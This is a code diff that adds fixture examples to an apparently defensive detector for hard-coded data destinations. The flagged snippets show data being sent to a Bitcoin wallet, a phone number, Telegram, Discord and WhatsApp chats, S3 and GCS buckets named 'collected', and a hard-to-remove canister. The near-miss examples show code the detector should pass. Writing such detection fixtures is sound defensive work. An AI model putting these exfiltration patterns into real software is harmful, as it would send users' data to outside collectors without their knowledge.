@@ -45,8 +45,61 @@ export const examples: DetectorExamples = {
       why: 'a fixed channel',
       attributes: { service: 'slack-channel', destination: 'C0COLLECT' },
     },
+    {
+      code: "const pay = ['1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2'];",
+      why: 'a wallet that its checksum proves',
+      attributes: { service: 'bitcoin-wallet', destination: '1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2' },
+    },
+    {
+      code: "client.messages.create({ to: '+4915123456789', body });",
+      why: 'a fixed telephone',
+      attributes: { service: 'phone', destination: '+4915123456789' },
+    },
+    {
+      code: 'bot.sendDocument(987654321, buffer);',
+      why: 'a fixed chat in a call',
+      attributes: { service: 'telegram-chat', destination: '987654321' },
+    },
+    {
+      code: 'fetch(`https://api.telegram.org/bot${token}/sendMessage?chat_id=-1001234567&text=${t}`);',
+      why: 'a fixed chat in a URL',
+      attributes: { service: 'telegram-chat', destination: '-1001234567' },
+    },
+    {
+      code: "const c = await client.channels.fetch('123456789012345678');",
+      why: 'a fixed channel of Discord',
+      attributes: { service: 'discord-channel', destination: '123456789012345678' },
+    },
+    {
+      code: "sock.sendText('15550001111@c.us', text);",
+      why: 'a fixed chat of WhatsApp',
+      attributes: { service: 'whatsapp-chat', destination: '15550001111' },
+    },
+    {
+      code: "fetch('https://collected.s3.eu-west-1.amazonaws.com/x', { method: 'PUT', body });",
+      why: 'a bucket by its URL',
+      attributes: { service: 's3-url', destination: 'collected' },
+    },
+    {
+      code: "import { Storage } from '@google-cloud/storage'; new Storage().bucket('collected').file(n).save(b);",
+      why: 'a bucket of another cloud',
+      attributes: { service: 'gcs-bucket', destination: 'collected' },
+    },
+    {
+      code: "const u = 'https://aaaaa-bbbbb-ccccc-ddddd-cai.raw.ic0.app/next';",
+      why: 'a canister, which anybody can fill and nobody can take down',
+      attributes: { service: 'collector', destination: 'aaaaa-bbbbb-ccccc-ddddd-cai.raw.ic0.app' },
+    },
   ],
   good: [
+    {
+      code: "const a = { to: '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD' };",
+      why: 'a checksum that is wrong',
+    },
+    {
+      code: "route({ to: '+1', from: '/a' }); cache.get('123456789012345678');",
+      why: 'no telephone, no channel',
+    },
     { code: "const docs = 'https://discord.com/invite/x';", why: 'an invitation' },
     { code: 'web.chat.postMessage({ channel, text });', why: 'somebody else decides' },
     {
